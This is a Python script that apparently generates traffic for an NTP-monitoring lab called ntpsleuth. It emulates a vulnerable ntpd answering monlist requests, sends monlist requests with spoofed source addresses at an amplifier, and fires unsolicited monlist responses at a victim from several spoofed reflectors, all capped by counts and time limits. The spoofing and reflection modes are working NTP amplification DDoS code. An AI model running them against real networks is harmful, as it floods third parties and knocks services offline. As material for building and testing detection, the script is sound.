#!/usr/bin/env python3
"""Traffic pieces for ntpsleuth's lab that no packaged program provides.

  serve-monlist  a "vulnerable ntpd": answers NTP mode 7 MON_GETLIST_1
                 (request code 42) on UDP 123 as ntpd 4.2.6 did
  spoof-monlist  monlist requests carrying someone else's source address
  reflect        unsolicited monlist responses from several reflectors
  tcp-listen     a few listening TCP ports, so scans see some open ports

ntpsec's ntpd ignores mode 7 entirely, so the amplifier has to be ours.
Packets are built with scapy (mode 7 header and info_monitor_1 items as
in ntpd's include/ntp_request.h); raw packets go out through one
IPPROTO_RAW socket, which is much faster than scapy's send().
Everything is bounded by a count and a time limit and stops by itself.
"""

import argparse
import random
import signal
import socket
import sys
import time

MON_GETLIST_1 = 42
REQ_PEER_LIST = 0
IMPL_XNTPD = 3
ITEMS_PER_PACKET = 6    # 6 x 72 bytes + 8 byte header = 440 bytes
INFO_ERR_REQ = 2        # "request code not implemented"


def monlist_items(n, server):
    """n info_monitor_1 entries, as a busy public server's MRU list."""
    from scapy.layers.ntp import NTPInfoMonitor1
    rnd = random.Random(42)     # same list every run
    items = []
    for i in range(n):
        net = ("198.51.100", "203.0.113")[i % 2]
        items.append(NTPInfoMonitor1(
            lasttime=rnd.randint(0, 3600), firsttime=rnd.randint(3600, 86400),
            lastdrop=0, count=rnd.randint(1, 5000),
            addr="%s.%d" % (net, 1 + (i * 7) % 250), daddr=server,
            flags=0, port=rnd.choice((123, rnd.randint(1024, 65535))),
            mode=rnd.choice((3, 3, 3, 4, 7)), version=rnd.choice((2, 3, 4))))
    return items


def monlist_payloads(n, server, version=2):
    """The UDP payloads of a full monlist answer: 'more' bit on all but
    the last packet, sequence numbers from 0."""
    from scapy.layers.ntp import NTPPrivate
    items = monlist_items(n, server)
    chunks = [items[i:i + ITEMS_PER_PACKET]
              for i in range(0, len(items), ITEMS_PER_PACKET)]
    out = []
    for seq, chunk in enumerate(chunks):
        p = NTPPrivate(response=1, more=int(seq < len(chunks) - 1),
                       version=version, mode=7, auth=0, seq=seq,
                       implementation=IMPL_XNTPD, request_code=MON_GETLIST_1,
                       err=0, nb_items=len(chunk), mbz=0, data_item_size=72,
                       data=chunk)
        out.append(bytes(p))
    return out


def monlist_request():
    """The 8-byte request that attack tools send (nmap's is 48, ntpdc's
    192 with padding)."""
    from scapy.layers.ntp import NTPPrivate
    return bytes(NTPPrivate(response=0, more=0, version=2, mode=7, seq=0,
                            implementation=IMPL_XNTPD,
                            request_code=MON_GETLIST_1))


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def udp_packet(src, sport, dst, dport, payload):
    from scapy.layers.inet import IP, UDP
    return bytes(IP(src=src, dst=dst, ttl=64, id=random.randint(0, 65535)) /
                 UDP(sport=sport, dport=dport) / payload)


def pace(start, i, rate):
    """Sleep until packet i is due at `rate` per second."""
    due = start + i / rate
    delay = due - time.monotonic()
    if delay > 0:
        time.sleep(delay)


def cmd_serve_monlist(a):
    answers = monlist_payloads(a.entries, a.addr)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((a.addr, 123))
    deadline = time.monotonic() + a.secs
    requests = sent = 0
    print("serving monlist (%d entries, %d packets per answer) on %s:123"
          % (a.entries, len(answers), a.addr), flush=True)
    # Stopped with SIGTERM by the lab: still print the counts.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    try:
        while time.monotonic() < deadline and sent < a.max_packets:
            s.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                data, peer = s.recvfrom(2048)
            except socket.timeout:
                break
            sent += answer(s, data, peer, answers)
            requests += 1
    finally:
        print("monlist server: %d datagrams in, %d packets sent"
              % (requests, sent), flush=True)


def answer(s, data, peer, answers):
    """Answer one request as ntpd 4.2.6 would; return packets sent."""
    if len(data) < 4 or data[0] & 0x87 != 0x07:
        return 0                # not a mode 7 request
    version = (data[0] >> 3) & 7
    impl, code = data[2], data[3]
    if impl in (2, IMPL_XNTPD) and code == MON_GETLIST_1:
        for p in answers:
            # echo the request's version, as ntpd does
            s.sendto(bytes([(p[0] & 0xc7) | (version << 3)]) + p[1:], peer)
        return len(answers)
    # ntpd answers an unknown request code with an error response:
    # header only, err in the high nibble of byte 4.
    s.sendto(bytes([0x80 | (version << 3) | 7, 0, impl, code,
                    INFO_ERR_REQ << 4, 0, 0, 0]), peer)
    return 1


def cmd_spoof_monlist(a):
    req = monlist_request()
    s = raw_socket()
    start = time.monotonic()
    n = 0
    while n < a.count and time.monotonic() - start < a.secs:
        pace(start, n, a.rate)
        sport = random.randint(1024, 65535)
        s.sendto(udp_packet(a.src, sport, a.dst, 123, req), (a.dst, 0))
        n += 1
    print("sent %d monlist requests as %s to %s" % (n, a.src, a.dst),
          flush=True)


def cmd_reflect(a):
    srcs = a.src.split(",")
    s = raw_socket()
    answers = monlist_payloads(a.packets * ITEMS_PER_PACKET, srcs[0])
    start = time.monotonic()
    n = 0
    # Each burst answers one spoofed request; its port is the one the
    # attacker wrote into that request.
    bursts = [(src, random.randint(1024, 65535))
              for _ in range(a.bursts) for src in srcs]
    for src, dport in bursts:
        if time.monotonic() - start > a.secs:
            break
        for p in answers:
            pace(start, n, a.rate)
            s.sendto(udp_packet(src, 123, a.dst, dport, p), (a.dst, 0))
            n += 1
    print("sent %d unsolicited monlist responses from %d reflectors to %s"
          % (n, len(srcs), a.dst), flush=True)


def cmd_tcp_listen(a):
    socks = []
    for port in a.ports:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((a.addr, port))
        s.listen(128)
        socks.append(s)
    print("listening on tcp %s" % ",".join(map(str, a.ports)), flush=True)
    # The kernel completes handshakes into the backlog; nothing to accept.
    time.sleep(a.secs)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("serve-monlist")
    p.add_argument("--addr", required=True)
    p.add_argument("--entries", type=int, default=600)
    p.add_argument("--secs", type=float, default=30)
    p.add_argument("--max-packets", type=int, default=50000)
    p.set_defaults(fn=cmd_serve_monlist)
    p = sub.add_parser("spoof-monlist")
    p.add_argument("--src", required=True, help="victim address")
    p.add_argument("--dst", required=True, help="amplifier address")
    p.add_argument("--count", type=int, default=200)
    p.add_argument("--rate", type=float, default=50)
    p.add_argument("--secs", type=float, default=20)
    p.set_defaults(fn=cmd_spoof_monlist)
    p = sub.add_parser("reflect")
    p.add_argument("--src", required=True, help="reflectors, comma-separated")
    p.add_argument("--dst", required=True, help="victim address")
    p.add_argument("--bursts", type=int, default=10)
    p.add_argument("--packets", type=int, default=100)
    p.add_argument("--rate", type=float, default=2000)
    p.add_argument("--secs", type=float, default=20)
    p.set_defaults(fn=cmd_reflect)
    p = sub.add_parser("tcp-listen")
    p.add_argument("--addr", default="0.0.0.0")
    p.add_argument("--secs", type=float, default=30)
    p.add_argument("ports", type=int, nargs="+")
    p.set_defaults(fn=cmd_tcp_listen)
    a = ap.parse_args()
    a.fn(a)
    return 0


if __name__ == "__main__":
    sys.exit(main())
